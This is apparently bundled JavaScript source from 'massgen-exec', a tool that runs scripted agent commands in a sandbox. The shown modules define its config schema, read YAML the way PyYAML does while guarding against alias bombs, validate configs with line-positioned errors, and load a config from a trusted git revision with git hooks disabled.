        command_line_allowed_commands: strList('Python regexes; every simple command must match one.'),
        command_line_blocked_commands: strList('Python regexes; any simple command matching blocks.'),
        command_line_timeout: { ...timeout, description: 'Default seconds per command (60).' },
        command_line_max_output_bytes: { type: 'number', integer: true, min: 1024 },
        command_line_docker_credentials: {
            type: 'object',
            unknown: 'error',
            props: {
                mount: { type: 'array', items: { type: 'string', enum: CREDENTIAL_MOUNTS } },
                additional_mounts: {
                    type: 'object',
                    unknown: 'error',
                    props: {},
                    values: {
                        type: 'object',
                        unknown: 'error',
                        required: ['bind'],
                        props: { bind: schema_str(), mode: { type: 'string', enum: ['ro', 'rw'] } }
                    }
                },
                env_file: schema_str(),
                env_vars: strList(),
                env_vars_from_file: strList(),
                pass_all_env: bool('Pass the whole host environment (dangerous).')
            }
        },
        command_line_docker_packages: {
            type: 'object',
            unknown: 'error',
            props: {
                preinstall: {
                    type: 'object',
                    unknown: 'error',
                    props: { python: strList(), npm: strList(), system: strList() }
                }
            }
        },
        command_line_disk_limit: {
            type: 'oneOf',
            variants: [
                {
                    type: 'string',
                    pattern: '^\\s*\\d+(\\.\\d+)?\\s*[bkmgBKMG]?[bB]?\\s*$',
                    patternHint: 'a size like "500m" or "4g"'
                },
                { type: 'number', min: 0 }
            ],
            description: 'Docker: how much the workspace, write context paths and home may grow over the run, e.g. "500m"; a step that takes them over is stopped (our extension; default "4g").'
        },
        command_line_egress: {
            type: 'object',
            unknown: 'error',
            description: 'Egress through an allowlisting proxy instead of no network (our extension; docker and srt).',
            props: {
                allowed_domains: strList('Exact names, "*.domain" wildcards, IP literals; optional ":port".'),
                presets: {
                    type: 'array',
                    items: { type: 'string', enum: EGRESS_PRESETS },
                    description: 'Named lists kept in the product.'
                },
                allowed_private_ranges: strList('CIDRs a destination may resolve into although loopback, private, link-local or metadata.'),
                audit: bool('Let every name through (addresses still checked), record it, propose a list.')
            }
        },
        command_line_ca_certificates: strList('PEM files of CA certificates the sandbox trusts, added to the runner\'s system bundle ("system": that bundle alone); our extension, docker and srt.'),
        command_execution_prefix: schema_str('Prefix for every command, e.g. "uv run".'),
        command_execution_venv_path: schema_str('Virtualenv whose bin/ goes first on PATH.'),
        context_paths: { type: 'array', items: CONTEXT_PATH },
        agent_temporary_workspace: schema_str(),
        permissions: PERMISSIONS
    },
    ignored: {
        enable_mcp_command_line: 'the scripted `commands:` run whether or not the MCP command tool is enabled',
        context_write_access_enabled: 'a context path with permission: write is writable in every step (there is no final agent)',
        enforce_read_before_delete: 'no file tools; commands are checked by the policy instead',
        mcp_servers: 'no model calls MCP tools in a scripted run'
    }
};
const AGENT = {
    type: 'object',
    unknown: 'ignore',
    otherKeys: NO_MODEL,
    // MassGen's own single-agent examples omit the id; it defaults to "agent" (or agent_<n>).
    props: {
        id: {
            type: 'string',
            acceptInteger: true,
            pattern: '^[A-Za-z0-9][A-Za-z0-9_.-]*$',
            patternHint: 'an id of letters, digits, ".", "_" or "-"'
        },
        backend: BACKEND,
        commands: { type: 'array', items: STEP, description: 'The scripted steps, in order.' }
    },
    ignored: { system_message: 'no model runs; the steps are scripted' }
};
const CONFIG = {
    type: 'object',
    unknown: 'ignore',
    otherKeys: NO_MODEL,
    props: {
        agent: AGENT,
        agents: { type: 'array', items: AGENT },
        orchestrator: {
            type: 'object',
            unknown: 'ignore',
            otherKeys: 'an orchestration setting (voting, coordination, …); no model runs here',
            props: {
                agent_temporary_workspace: schema_str('Mounted read-only; a relative path goes under .massgen/, as in MassGen.'),
                context_paths: { type: 'array', items: CONTEXT_PATH }
            },
            ignored: {
                snapshot_storage: 'agents share no answers, so no snapshots are taken'
            }
        },
        permissions: PERMISSIONS
    },
    ignored: {
        timeout_settings: 'each step has its own timeout (command_line_timeout, step timeout:)',
        ui: 'the results go to results.json, summary.md and the job summary'
    }
};

;// CONCATENATED MODULE: ./src/config/yaml.ts
// Reads YAML the way MassGen reads it (PyYAML's safe_load, YAML 1.1): merge keys merged,
// yes/no/on/off booleans, a repeated key keeps its last value. The `yaml` library does the
// parsing and the merging; this file configures it, turns every problem into a positioned issue
// and guards against alias bombs before anything walks the document.

/** Expanded nodes (aliases counted as copies of their target) a config may have. */
const MAX_EXPANDED_NODES = 100_000;
// PyYAML's 1.1 resolver where the library's YAML 1.1 schema differs: `y` and `n` stay strings,
// and a float needs a digit and a dot (`.` and `1e3` stay strings; `path: .` is the text ".").
const PY_TRUE = /^(?:yes|Yes|YES|true|True|TRUE|on|On|ON)$/;
const PY_FALSE = /^(?:no|No|NO|false|False|FALSE|off|Off|OFF)$/;
const PY_FLOAT = /^(?:[-+]?[0-9][0-9_]*\.[0-9_]*|\.[0-9_]+)$/;
const PY_FLOAT_EXP = /^(?:[-+]?[0-9][0-9_]*\.[0-9_]*[eE][-+][0-9]+|\.[0-9_]+[eE][-+][0-9]+)$/;
function pyyamlResolvers(tags) {
    return tags.map((t) => {
        const tag = t;
        if (typeof t !== 'object')
            return t;
        if (tag.tag === 'tag:yaml.org,2002:bool')
            return { ...tag, test: tag.identify?.(true) ? PY_TRUE : PY_FALSE };
        if (tag.tag === 'tag:yaml.org,2002:float' && !/nan/.test(String(tag.test)))
            return { ...tag, test: tag.format === 'EXP' ? PY_FLOAT_EXP : PY_FLOAT };
        return t;
    });
}
function readYaml(text, file) {
    const lineCounter = new dist/* LineCounter */.HN();
    const doc = (0,dist/* parseDocument */.Tp)(text, {
        lineCounter,
        prettyErrors: false,
        // PyYAML: the last of repeated keys wins; we say so as a warning below.
        uniqueKeys: false,
        version: '1.1',
        merge: true,
        customTags: pyyamlResolvers
    });
    const at = (offset) => {
        const { line, col } = lineCounter.linePos(offset);
        return { file, line, col };
    };
    const nodePos = (node) => node?.range ? at(node.range[0]) : { file, line: 1, col: 1 };
    const errors = doc.errors.map((e) => ({
        ...at(e.pos[0]),
        message: `YAML syntax error: ${firstLine(e.message)}`
    }));
    const warnings = doc.warnings.map((w) => ({
        ...at(w.pos[0]),
        message: `YAML: ${firstLine(w.message)}`
    }));
    if (errors.length === 0) {
        const bomb = aliasProblem(doc, nodePos);
        if (bomb)
            errors.push(bomb);
        else
            warnings.push(...dropRepeatedKeys(doc, nodePos));
    }
    return { doc, at, nodePos, errors, warnings };
}
/**
 * An alias bomb (a few lines whose aliases expand to billions of nodes) or a recursive alias,
 * found by counting expanded nodes once per node (linear in the source).
 */
function aliasProblem(doc, nodePos) {
    const size = new Map();
    const busy = new Set();
    let problem;
    const measure = (node) => {
        if (problem || !node || typeof node !== 'object')
            return 0;
        const n = node;
        if ((0,dist/* isAlias */.Vj)(n)) {
            const target = n.resolve(doc);
            if (!target) {
                problem = {
                    ...nodePos(n),
                    message: `YAML alias *${n.source} has no anchor &${n.source} before it`
                };
                return 0;
            }
            if (busy.has(target)) {
                problem = {
                    ...nodePos(n),
                    message: `YAML alias *${n.source} refers to a node that contains it (a recursive alias)`
                };
                return 0;
            }
            const s = measure(target);
            if (!problem && s > MAX_EXPANDED_NODES) {
                problem = {
                    ...nodePos(n),
                    message: `YAML alias *${n.source} expands to more than ${MAX_EXPANDED_NODES} nodes (an alias bomb?); refusing to read the config`
                };
            }
            return s;
        }
        const known = size.get(n);
        if (known !== undefined)
            return known;
        busy.add(n);
        let total = 1;
        if ((0,dist/* isMap */.jh)(n) || (0,dist/* isSeq */.oP)(n)) {
            for (const item of n.items) {
                total += (0,dist/* isPair */.tO)(item) ? measure(item.key) + measure(item.value) : measure(item);
                if (total > MAX_EXPANDED_NODES && !problem) {
                    problem = {
                        ...nodePos(n),
                        message: `this YAML node expands (through aliases) to more than ${MAX_EXPANDED_NODES} nodes (an alias bomb?); refusing to read the config`
                    };
                }
                if (problem)
                    break;
            }
        }
        busy.delete(n);
        size.set(n, total);
        return total;
    };
    measure(doc.contents);
    return problem;
}
/** `<<` as a merge key (a plain `<<`; a quoted one is an ordinary key). */
function isMergeKey(key) {
    if (!(0,dist/* isScalar */.jn)(key))
        return false;
    const v = key.value;
    if (typeof v === 'symbol')
        return v.description === '<<';
    return v === '<<' && (!key.type || key.type === dist/* Scalar */.X5.PLAIN);
}
/** A key as the text it is compared by (scalars only). */
function keyText(key) {
    if (!(0,dist/* isScalar */.jn)(key) || isMergeKey(key))
        return undefined;
    return String(key.value);
}
/** Removes all but the last of repeated keys in every mapping, with a warning for each. */
function dropRepeatedKeys(doc, nodePos) {
    const warnings = [];
    (0,dist/* visit */.YR)(doc, {
        Map(_, map) {
            const last = new Map();
            for (const pair of map.items) {
                const k = keyText(pair.key);
                if (k !== undefined)
                    last.set(k, pair);
            }
            if (last.size === map.items.filter((p) => keyText(p.key) !== undefined).length)
                return;
            map.items = map.items.filter((pair) => {
                const k = keyText(pair.key);
                const winner = k === undefined ? pair : last.get(k);
                if (winner === pair)
                    return true;
                const later = nodePos(winner?.key);
                warnings.push({
                    ...nodePos(pair.key),
                    message: `duplicate key ${JSON.stringify(k)}: the later one (line ${later.line}) wins, as in PyYAML; this one is ignored`
                });
                return false;
            });
        }
    });
    return warnings;
}
/** The mapping or list behind a node (following an alias). */
function deref(doc, node) {
    if (!node)
        return null;
    if ((0,dist/* isAlias */.Vj)(node))
        return node.resolve(doc) ?? null;
    return node;
}
/**
 * The pairs a mapping has once its merge keys are applied, as PyYAML applies them: its own keys
 * win, then the merged mappings in order (the first wins); merged mappings' own merges count.
 * The pairs are the source nodes, so their positions are where they are written.
 */
function effectivePairs(doc, map, seen = new Set()) {
    const own = map.items.filter((p) => !isMergeKey(p.key));
    const out = new Map();
    for (const p of own)
        out.set(keyText(p.key) ?? `#${out.size}`, p);
    if (seen.has(map))
        return [...out.values()];
    seen.add(map);
    for (const p of map.items) {
        if (!isMergeKey(p.key))
            continue;
        for (const source of mergeSources(doc, p.value)) {
            for (const q of effectivePairs(doc, source, seen)) {
                const k = keyText(q.key);
                if (k !== undefined && !out.has(k))
                    out.set(k, q);
            }
        }
    }
    return [...out.values()];
}
/** The mappings a merge key's value names (a mapping, an alias of one, or a list of them). */
function mergeSources(doc, value) {
    const v = deref(doc, value);
    if ((0,dist/* isMap */.jh)(v))
        return [v];
    if ((0,dist/* isSeq */.oP)(v))
        return v.items.map((i) => deref(doc, i)).filter((i) => (0,dist/* isMap */.jh)(i));
    return [];
}
/** The node at a key path, seeing through aliases and merge keys. */
function nodeAt(doc, path) {
    let node = deref(doc, doc.contents);
    for (const key of path) {
        if ((0,dist/* isMap */.jh)(node)) {
            const pair = effectivePairs(doc, node).find((p) => keyText(p.key) === String(key));
            if (!pair)
                return null;
            node = deref(doc, pair.value);
        }
        else if ((0,dist/* isSeq */.oP)(node) && typeof key === 'number') {
            node = deref(doc, node.items[key]);
        }
        else {
            return null;
        }
    }
    return node;
}
/** The key node of the last element of a path (for messages about a key). */
function keyNodeAt(doc, path) {
    const parent = nodeAt(doc, path.slice(0, -1));
    const last = path[path.length - 1];
    if (!(0,dist/* isMap */.jh)(parent))
        return null;
    const pair = effectivePairs(doc, parent).find((p) => keyText(p.key) === String(last));
    return pair?.key ?? null;
}
function firstLine(s) {
    return s.split('\n')[0];
}

;// CONCATENATED MODULE: ./src/config/validate.ts
// Checks a parsed YAML document against the schema in schema.ts, node by node, so that every
// problem is reported at once with its line and column. Merge keys count as the keys they merge
// (reported where those keys are written); keys accepted without effect are collected as ignored.



function validateDocument(doc, root) {
    const ctx = { doc, issues: [], ignored: [] };
    check(ctx, doc.contents, root, '');
    return { issues: dedupe(ctx.issues), ignored: ctx.ignored };
}
/** An aliased node is checked once per alias; say each thing once. */
function dedupe(issues) {
    const seen = new Set();
    return issues.filter((i) => {
        const key = `${i.node?.range?.[0] ?? -1}\0${i.message}`;
        if (seen.has(key))
            return false;
        seen.add(key);
        return true;
    });
}
function describe(node) {
    if (node === null)
        return 'nothing';
    if ((0,dist/* isMap */.jh)(node))
        return 'a mapping';
    if ((0,dist/* isSeq */.oP)(node))
        return 'a list';
    if ((0,dist/* isScalar */.jn)(node)) {
        const v = node.value;
        if (v === null)
            return 'null';
        if (typeof v === 'string')
            return `the string ${JSON.stringify(v)}`;
        if (v instanceof Date)
            return `the date ${node.source ?? v.toISOString()}`;
        if (typeof v === 'number')
            return `the number ${node.source ?? String(v)}`;
        return `${typeof v} ${node.source ?? String(v)}`;
    }
    return 'a value';
}
function typeName(f) {
    switch (f.type) {
        case 'object':
        case 'scalarMap':
            return 'a mapping';
        case 'array':
            return 'a list';
        case 'oneOf':
            return [...new Set(f.variants.map(typeName))].join(' or ');
        case 'any':
            return 'anything';
        default:
            return `a ${f.type}`;
    }
}
/** A scalar YAML typed as something else, whose text the user may have meant. */
function quoteHint(node) {
    if (!node || !(0,dist/* isScalar */.jn)(node) || typeof node.value === 'string' || node.value === null)
        return '';
    const text = node.source ?? String(node.value);
    return ` (write ${JSON.stringify(text)} in quotes if you mean the text)`;
}
/** Returns true when the node fits the field (used to pick a oneOf variant quietly). */
function check(ctx, raw, f, at) {
    const node = deref(ctx.doc, raw);
    const where = at ? `${at}: ` : '';
    const fail = (message) => {
        ctx.issues.push({ node, message: where + message });
        return false;
    };
    const value = node && (0,dist/* isScalar */.jn)(node) ? node.value : undefined;
    switch (f.type) {
        case 'any':
            return true;
        case 'string': {
            let text;
            if (node && (0,dist/* isScalar */.jn)(node) && typeof value === 'string')
                text = value;
            else if (f.acceptInteger && typeof value === 'number' && Number.isSafeInteger(value))
                text = String(value);
            else
                return fail(`expected a string, got ${describe(node)}${quoteHint(node)}`);
            if (f.enum && !f.enum.includes(text)) {
                const hint = suggest(text, f.enum);
                return fail(`${JSON.stringify(text)} is not one of ${f.enum.map((e) => JSON.stringify(e)).join(', ')}` +
                    (hint ? ` (did you mean ${JSON.stringify(hint)}?)` : ''));
            }
            if (f.pattern && !new RegExp(f.pattern).test(text)) {
                return fail(`${JSON.stringify(text)} is not ${f.patternHint ?? `valid here (${f.pattern})`}`);
            }
            return true;
        }
        case 'number': {
            if (!node || !(0,dist/* isScalar */.jn)(node) || typeof value !== 'number' || !Number.isFinite(value)) {
                return fail(`expected a number, got ${describe(node)}`);
            }
            if (f.integer && !Number.isInteger(value))
                return fail(`expected a whole number, got ${value}`);
            if (f.min !== undefined && value < f.min)
                return fail(`must be at least ${f.min}, got ${value}`);
            if (f.max !== undefined && value > f.max)
                return fail(`must be at most ${f.max}, got ${value}`);
            if (f.exclusiveMin !== undefined && value <= f.exclusiveMin) {
                return fail(`must be greater than ${f.exclusiveMin}, got ${value}`);
            }
            return true;
        }
        case 'boolean':
            if (!node || !(0,dist/* isScalar */.jn)(node) || typeof value !== 'boolean') {
                return fail(`expected true or false, got ${describe(node)}`);
            }
            return true;
        case 'array': {
            if (!node || !(0,dist/* isSeq */.oP)(node))
                return fail(`expected a list, got ${describe(node)}`);
            let ok = true;
            node.items.forEach((item, i) => {
                ok = check(ctx, item, f.items, `${at}[${i}]`) && ok;
            });
            return ok;
        }
        case 'scalarMap': {
            if (!node || !(0,dist/* isMap */.jh)(node))
                return fail(`expected a mapping, got ${describe(node)}`);
            let ok = true;
            for (const pair of effectivePairs(ctx.doc, node)) {
                const v = deref(ctx.doc, pair.value);
                const bad = !v ||
                    !(0,dist/* isScalar */.jn)(v) ||
                    (typeof v.value === 'object' && v.value !== null) ||
                    (typeof v.value === 'number' && !Number.isFinite(v.value));
                if (bad) {
                    ctx.issues.push({
                        node: v ?? pair.key,
                        message: `${where}values must be strings, numbers or booleans, got ${describe(v)}`
                    });
                    ok = false;
                }
            }
            return ok;
        }
        case 'oneOf': {
            // Pick the variant whose shape matches (a string vs a mapping with a telling key), then
            // report that variant's problems; fall back to a plain "expected X" message.
            const variant = pickVariant(ctx, node, f.variants);
            if (variant)
                return check(ctx, node, variant, at);
            return fail(`expected ${typeName(f)}, got ${describe(node)}${quoteHint(node)}`);
        }
        case 'object':
            return checkObject(ctx, node, f, at, fail);
    }
}
function pickVariant(ctx, node, variants) {
    for (const v of variants) {
        const quiet = { doc: ctx.doc, issues: [], ignored: [] };
        if (check(quiet, node, v, ''))
            return v;
    }
    if (node && (0,dist/* isScalar */.jn)(node)) {
        // A scalar that fits no variant: report against the variant of its own type.
        const t = typeof node.value;
        return variants.find((v) => v.type === t);
    }
    if (node && (0,dist/* isMap */.jh)(node)) {
        // A mapping that fits no variant: the one that requires a key this mapping has.
        const keys = effectivePairs(ctx.doc, node).map((p) => keyText(p.key));
        const byRequired = variants.find((v) => v.type === 'object' && (v.required ?? []).some((r) => keys.includes(r)));
        if (byRequired)
            return byRequired;
        const objects = variants.filter((v) => v.type === 'object');
        if (objects.length === 1)
            return objects[0];
    }
    return undefined;
}
function checkMergeKeys(ctx, node, at) {
    let ok = true;
    for (const pair of node.items) {
        if (!isMergeKey(pair.key))
            continue;
        const v = deref(ctx.doc, pair.value);
        const fine = (0,dist/* isMap */.jh)(v) || ((0,dist/* isSeq */.oP)(v) && v.items.every((i) => (0,dist/* isMap */.jh)(deref(ctx.doc, i))));
        if (!fine) {
            ctx.issues.push({
                node: v ?? pair.key,
                message: `${at ? at + ': ' : ''}a merge key (<<) takes a mapping, an alias of one or a list of them, got ${describe(v)}`
            });
            ok = false;
        }
    }
    return ok;
}
function checkObject(ctx, node, f, at, fail) {
    if (!node || !(0,dist/* isMap */.jh)(node))
        return fail(`expected a mapping, got ${describe(node)}`);
    let ok = checkMergeKeys(ctx, node, at);
    const known = [...Object.keys(f.props), ...Object.keys(f.ignored ?? {})];
    const seen = new Set();
    for (const pair of effectivePairs(ctx.doc, node)) {
        const keyNode = pair.key;
        const key = keyText(keyNode);
        if (key === undefined) {
            ctx.issues.push({ node: keyNode, message: `${at ? at + ': ' : ''}keys must be scalars` });
            ok = false;
            continue;
        }
        seen.add(key);
        const path = at ? `${at}.${key}` : key;
        const sub = f.values ?? f.props[key];
        if (sub) {
            ok = check(ctx, pair.value, sub, path) && ok;
            continue;
        }
        const reason = f.ignored?.[key];
        if (reason !== undefined) {
            ctx.ignored.push({ node: keyNode, path, reason });
            continue;
        }
        const strict = f.unknown === 'error' || (f.strictPrefixes ?? []).some((p) => key.startsWith(p));
        const near = suggest(key, known);
        if (strict || (near && isExecutionKey(near))) {
            ctx.issues.push({
                node: keyNode,
                message: `${at ? at + ': ' : ''}unknown key ${JSON.stringify(key)}` +
                    (near ? ` (did you mean ${JSON.stringify(near)}?)` : '')
            });
            ok = false;
        }
        else {
            ctx.ignored.push({ node: keyNode, path, reason: f.otherKeys ?? 'not used by massgen-exec' });
        }
    }
    for (const r of f.required ?? []) {
        if (!seen.has(r)) {
            ctx.issues.push({
                node,
                message: `${at ? at + ': ' : ''}missing required key ${JSON.stringify(r)}`
            });
            ok = false;
        }
    }
    return ok;
}
// A near-miss of one of these in a lenient mapping is almost certainly a typo, not a MassGen key.
const EXECUTION_KEYS = new Set([
    'commands',
    'backend',
    'cwd',
    'context_paths',
    'agent',
    'agents',
    'permissions'
]);
function isExecutionKey(key) {
    return EXECUTION_KEYS.has(key) || key.startsWith('command_');
}

;// CONCATENATED MODULE: ./src/config/load.ts
// MassGen-style YAML → validated RunPlan. Problems are collected, not thrown one by one, and
// raised together as a ConfigError whose lines read `file:line:col: message`. Paths are placed
// as MassGen places them: a relative `cwd` under .massgen/workspaces/, a relative temporary
// workspace under .massgen/.












/** The config file's text; a file that cannot be read is a ConfigError at 1:1. */
async function readConfigText(path) {
    try {
        return await (0,promises_.readFile)(path, 'utf8');
    }
    catch (e) {
        throw new errors/* ConfigError */.xL([
            { file: path, line: 1, col: 1, message: `cannot read config: ${e.message}` }
        ]);
    }
}
async function loadConfig(path, opts = {}) {
    const text = await readConfigText(path);
    return parseConfig(text, path, opts);
}
function parseConfig(text, file, opts = {}) {
    try {
        return parse(text, file, opts);
    }
    catch (e) {
        if (e instanceof errors/* ConfigError */.xL)
            throw e;
        // Whatever goes wrong reading a config is the config's problem to report, never a stack trace.
        throw new errors/* ConfigError */.xL([
            { file, line: 1, col: 1, message: `cannot read config: ${e.message}` }
        ]);
    }
}
function parse(text, file, opts) {
    const yaml = readYaml(text, file);
    const { doc, nodePos } = yaml;
    if (yaml.errors.length)
        throw new errors/* ConfigError */.xL(yaml.errors);
    const issues = [];
    const warnings = [...yaml.warnings];
    const report = (pos, message) => issues.push({ ...pos, message });
    const warn = (pos, message) => warnings.push({ ...pos, message });
    const posOf = (keys) => nodePos(nodeAt(doc, keys));
    const keyPosOf = (keys) => nodePos(keyNodeAt(doc, keys) ?? nodeAt(doc, keys));
    const top = deref(doc, doc.contents);
    if (top !== null && !(0,dist/* isMap */.jh)(top)) {
        throw new errors/* ConfigError */.xL([{ ...nodePos(top), message: 'the config must be a mapping' }]);
    }
    const legacy = legacyProblem(doc, nodePos);
    if (legacy)
        throw new errors/* ConfigError */.xL([legacy]);
    const validation = validateDocument(doc, CONFIG);
    for (const i of validation.issues)
        report(nodePos(i.node), i.message);
    const ignored = new IgnoredList();
    for (const i of validation.ignored)
        ignored.add(i.path, i.reason, nodePos(i.node));
    let root;
    try {
        root = (doc.toJS({ maxAliasCount: 10_000 }) ?? {});
    }
    catch (e) {
        // The problems found above explain it (e.g. a merge key on a list of strings).
        if (issues.length)
            throw new errors/* ConfigError */.xL(issues);
        throw e;
    }
    const hasAgent = root.agent !== undefined;
    const hasAgents = root.agents !== undefined;
    if (hasAgent && hasAgents) {
        report(keyPosOf(['agents']), 'give either "agent" or "agents", not both');
    }
    else if (!hasAgent && !hasAgents) {
        report({ file, line: 1, col: 1 }, 'the config has no "agent" or "agents"');
    }
    if (issues.length)
        throw new errors/* ConfigError */.xL(issues);
    const wd = (0,external_node_path_.resolve)(opts.workingDirectory ?? process.cwd());
    const defaultTimeoutSec = opts.defaultTimeoutSec ?? defaults/* DEFAULT_TIMEOUT_SEC */.sN;
    const orchestrator = (root.orchestrator ?? {});
    const agentEntries = hasAgent
        ? [[(root.agent ?? {}), ['agent']]]
        : asList(root.agents).map((a, i) => [(a ?? {}), ['agents', i]]);
    const ctx = {
        wd,
        defaultTimeoutSec,
        hostCpus: opts.hostCpus ?? (0,external_node_os_.availableParallelism)(),
        orchestrator,
        posOf,
        report,
        warn,
        ignored,
        keyPosOf,
        host: (0,unsafe/* hostFacts */.sm)(wd),
        unsafe: [],
        topPermissions: readPermissions(root.permissions, ['permissions'], {
            posOf,
            report,
            ignored
        })
    };
    const agents = agentEntries.map(([a, p], i) => buildAgent(a, p, hasAgent ? 'agent' : `agent_${i + 1}`, ctx));
    // MassGen checks duplicate workspaces only among agents that set a cwd; an agent without one
    // has a workspace of its own only when it has commands to run.
    const byId = new Map();
    const byWorkspace = new Map();
    agentEntries.forEach(([raw, p], i) => {
        const a = agents[i];
        if (byId.has(a.id))
            report(posOf([...p, 'id']), `duplicate agent id ${JSON.stringify(a.id)}`);
        byId.set(a.id, a.id);
        if (a.workspaceSource === 'default' && a.steps.length === 0)
            return;
        const other = byWorkspace.get(a.workspace);
        if (other !== undefined) {
            const at = hasCwd(raw) ? posOf([...p, 'backend', 'cwd']) : keyPosOf([...p, 'commands']);
            report(at, `agents ${JSON.stringify(other)} and ${JSON.stringify(a.id)} share the workspace ${a.workspace}; give each its own "cwd"`);
        }
        byWorkspace.set(a.workspace, a.id);
    });
    if (issues.length)
        throw new errors/* ConfigError */.xL(issues);
    return {
        configFile: (0,external_node_path_.resolve)(file),
        workingDirectory: wd,
        agents,
        defaults: { timeoutSec: defaultTimeoutSec, maxOutputBytes: defaults/* DEFAULT_MAX_OUTPUT_BYTES */.n9 },
        warnings: sortByPosition(warnings),
        ignored: ignored.list(),
        unsafe: dedupeUnsafe(ctx.unsafe)
    };
}
/**
 * MassGen's v1 format (`agent_id`, `agent_type`, `model_config`) is read by MassGen's legacy
 * CLI only; say that instead of reporting its consequences.
 */
function legacyProblem(doc, nodePos) {
    const agents = nodeAt(doc, ['agents']);
    if (!(0,dist/* isSeq */.oP)(agents))
        return undefined;
    const LEGACY = ['agent_id', 'agent_type', 'model_config'];
    for (let i = 0; i < agents.items.length; i++) {
        const a = nodeAt(doc, ['agents', i]);
        if (!(0,dist/* isMap */.jh)(a) || nodeAt(doc, ['agents', i, 'backend']))
            continue;
        const found = LEGACY.filter((k) => keyNodeAt(doc, ['agents', i, k]));
        if (found.length === 0)
            continue;
        return {
            ...nodePos(keyNodeAt(doc, ['agents', i, found[0]])),
            message: `agents[${i}] is in MassGen's legacy v1 format (${found.map((k) => JSON.stringify(k)).join(', ')}), ` +
                'which only massgen.v1 reads; massgen-exec reads the current format: agents: [{id, backend: {type, model, cwd, …}, commands: […]}]'
        };
    }
    return undefined;
}
/** An aliased node is found once per use; once per place, class and agent is enough. */
function dedupeUnsafe(list) {
    const seen = new Set();
    return list.filter((f) => {
        const key = `${f.line}:${f.col}:${f.class}:${f.agent}`;
        if (seen.has(key))
            return false;
        seen.add(key);
        return true;
    });
}
function sortByPosition(list) {
    // The same aliased node can be warned about once per use; once is enough.
    const seen = new Set();
    return list
        .filter((w) => {
        const key = `${w.line}:${w.col}:${w.message}`;
        if (seen.has(key))
            return false;
        seen.add(key);
        return true;
    })
        .sort((a, b) => a.line - b.line || a.col - b.col);
}

;// CONCATENATED MODULE: ./src/config/source.ts
// Where the config text comes from: the file in the work tree, or, with config-ref, the file's blob
// at a git revision the workflow trusts (a pull request's base SHA), so that the pull request
// cannot change its own sandbox. Relative paths inside still resolve in the work tree.
//
// The repository is the one under review: git is run only for plumbing that reads objects
// (rev-parse, ls-tree, cat-file), with fsmonitor and hooks off, replace refs ignored, no system or
// global config and none of the caller's GIT_* variables, so no program named by the repository's
// config runs.







/** Loads a config from the work tree or from a revision; the plan records which (`source`). */
async function loadConfigFrom(path, opts = {}) {
    const ref = opts.configRef?.trim();
    if (!ref) {
        const text = await readConfigText(path);
        const plan = parseConfig(text, path, opts);
        plan.source = { kind: 'worktree', path, blob: gitBlobId(text) };
        return plan;
    }
    const read = await readAtRevision(path, ref);
    const plan = parseConfig(read.text, path, opts);
    plan.source = read.source;
    return plan;
}
/** The id git gives a blob with this content (SHA-1 object format). */
function gitBlobId(text) {
    const body = Buffer.isBuffer(text) ? text : Buffer.from(text, 'utf8');
    return (0,external_node_crypto_.createHash)('sha1').update(`blob ${body.length}\0`).update(body).digest('hex');
}
const SAFE_CONFIG = [
    '--no-replace-objects',
    '-c',
    'core.fsmonitor=false',
    '-c',
    'core.hooksPath=/dev/null',
    '-c',
    'safe.directory=*'
];
/** git plumbing with nothing of the caller's or the repository's that could run a program. */
function safeGit(args, cwd) {
    const env = {};
    for (const [k, v] of Object.entries(process.env))
        if (!k.startsWith('GIT_'))
            env[k] = v;
    Object.assign(env, {
        GIT_CONFIG_NOSYSTEM: '1',
        GIT_CONFIG_GLOBAL: '/dev/null',
        GIT_NO_REPLACE_OBJECTS: '1',
        GIT_TERMINAL_PROMPT: '0',
        GIT_OPTIONAL_LOCKS: '0'
    });
    return new Promise((done) => {
        (0,external_node_child_process_.execFile)('git', [...SAFE_CONFIG, ...args], { cwd, env, encoding: 'buffer', maxBuffer: 64 * 1024 * 1024 }, (error, stdout, stderr) => {
            const code = error ? (typeof error.code === 'number' ? error.code : 127) : 0;
            const why = error && typeof error.code !== 'number' ? error.message : '';
            done({ code, stdout, stderr: stderr.toString() + why });
        });
    });
}
/** The deepest existing directory at or above `p`. */
function existingDir(p) {
    let d = p;
    while (!(0,external_node_fs_.existsSync)(d) && (0,external_node_path_.dirname)(d) !== d)
        d = (0,external_node_path_.dirname)(d);
    return d;
}
async function readAtRevision(path, ref) {
    const fail = (message) => {
        throw new errors/* ConfigError */.xL([{ file: path, line: 1, col: 1, message }]);
    };
    if (ref.startsWith('-'))
        fail(`config-ref ${JSON.stringify(ref)} is not a revision`);
    const abs = (0,external_node_path_.resolve)(path);
    const start = existingDir((0,external_node_path_.dirname)(abs));
    const top = await safeGit(['rev-parse', '--show-toplevel'], start);
    if (top.code !== 0) {
        fail(`config-ref ${ref}: ${start} is not in a git repository (${lastLine(top.stderr)}); the config is read from a revision only inside one`);
    }
    const root = (0,external_node_fs_.realpathSync)(top.stdout.toString().trim());
    const real = (0,external_node_path_.join)((0,external_node_fs_.realpathSync)(start), (0,external_node_path_.relative)(start, abs));
    const rel = (0,external_node_path_.relative)(root, real);
    if (!(0,paths/* isStrictlyInside */.P)(real, root))
        fail(`config-ref ${ref}: the config ${abs} is not inside the repository ${root}`);
    const rev = await safeGit(['rev-parse', '--verify', '--quiet', '--end-of-options', `${ref}^{commit}`], root);
    if (rev.code !== 0) {
        fail(`config-ref ${ref}: no such commit in ${root} (a shallow checkout? fetch the base revision, e.g. actions/checkout with fetch-depth: 0)`);
    }
    const commit = rev.stdout.toString().trim();
    const gitPath = rel.split(external_node_path_.sep).join('/');
    const ls = await safeGit(['ls-tree', '-z', '--full-tree', commit, '--', gitPath], root);
    if (ls.code !== 0)
        fail(`config-ref ${ref}: cannot list ${gitPath}: ${lastLine(ls.stderr)}`);
    const entry = ls.stdout.toString().split('\0')[0];
    const m = /^(\d+) (\w+) ([0-9a-f]+)\t(.*)$/s.exec(entry);
    if (!m || m[4] !== gitPath)
        fail(`${gitPath} does not exist at revision ${ref} (commit ${commit}); nothing was run`);
    const [, mode, type, blob] = m;
    if (type !== 'blob' || mode === '120000') {
        fail(`${gitPath} at revision ${ref} (commit ${commit}) is ${mode === '120000' ? 'a symbolic link' : `a ${type}`}, not a file`);
    }
    const cat = await safeGit(['cat-file', 'blob', blob], root);
    if (cat.code !== 0)
        fail(`config-ref ${ref}: cannot read ${gitPath}: ${lastLine(cat.stderr)}`);
    return {
        text: cat.stdout.toString('utf8'),
        source: { kind: 'revision', path, ref, commit, blob }
    };
}
function lastLine(s) {
    return s.trim().split('\n').pop() || 'git failed';
}

// EXTERNAL MODULE: ./src/runtime/ca-bundle.ts
